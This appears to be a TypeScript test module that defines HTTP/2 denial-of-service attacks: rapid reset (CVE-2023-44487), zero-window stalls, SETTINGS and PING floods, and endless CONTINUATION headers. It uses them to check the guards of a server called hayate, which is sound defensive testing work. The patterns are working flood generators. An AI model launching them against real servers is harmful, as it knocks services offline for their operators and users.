/** Attacks on HTTP/2 servers, as what one connection sends. Each has a guard in hayate. */
import {
  block,
  bytes,
  endHeaders,
  frame,
  getFields,
  reset,
  settings,
  Type,
  whole,
} from "../../../tests/vectors/http2/wire.ts";
import { initialWindow } from "./door.ts";

export interface Attack {
  /** For the command line and the table. */
  readonly name: string;
  readonly settings: readonly (readonly [id: number, value: number])[];
  /** Connections at the same time. */
  readonly connections: number;
  /** What a connection sends first, and then every `pauseMs`, round after round from 0. */
  rounds(round: number): Uint8Array;
  readonly pauseMs: number;
}

/** Requests of one burst: more than the limits of all servers here. */
const burst = 500;
/** The file that is too large for any window. */
export const largePath = "/large.html";

const requestOf = (id: number, path: string, flags: number) =>
  frame(
    Type.headers,
    flags,
    id,
    block(...getFields.map(([name, value]) => [name, name === ":path" ? path : value] as const)),
  );
const times = (count: number, make: (index: number) => Uint8Array) =>
  bytes(...Array.from({ length: count }, (_, index) => make(index)));
const once = (make: () => Uint8Array) => {
  let made: Uint8Array | null = null;
  return () => made ??= make();
};
const nothing = new Uint8Array(0);

export const attacks: readonly Attack[] = [
  {
    // CVE-2023-44487.
    name: "rapid-reset",
    settings: [],
    connections: 8,
    pauseMs: 20,
    rounds: (round) =>
      times(burst, (index) => {
        const id = 2 * (round * burst + index) + 1;
        return bytes(requestOf(id, largePath, whole), reset(id));
      }),
  },
  {
    name: "zero-window",
    settings: [[initialWindow, 0]],
    connections: 50,
    pauseMs: 100,
    rounds: (round) =>
      round > 0 ? nothing : times(100, (index) => requestOf(2 * index + 1, largePath, whole)),
  },
  {
    name: "settings-flood",
    settings: [],
    connections: 8,
    pauseMs: 20,
    rounds: once(() => times(4 * burst, () => settings([initialWindow, 65_535]))),
  },
  {
    name: "ping-flood",
    settings: [],
    connections: 8,
    pauseMs: 20,
    rounds: once(() => times(4 * burst, () => frame(Type.ping, 0, 0, new Uint8Array(8)))),
  },
  {
    // A head that never ends. It begins in the second round: SETTINGS must not come between its parts.
    name: "slow-heads",
    settings: [],
    connections: 200,
    pauseMs: 200,
    rounds: (round) => {
      if (round === 0) return nothing;
      return round === 1
        ? requestOf(1, "/", whole & ~endHeaders)
        : frame(Type.continuation, 0, 1, block(["x", String(round)]));
    },
  },
];
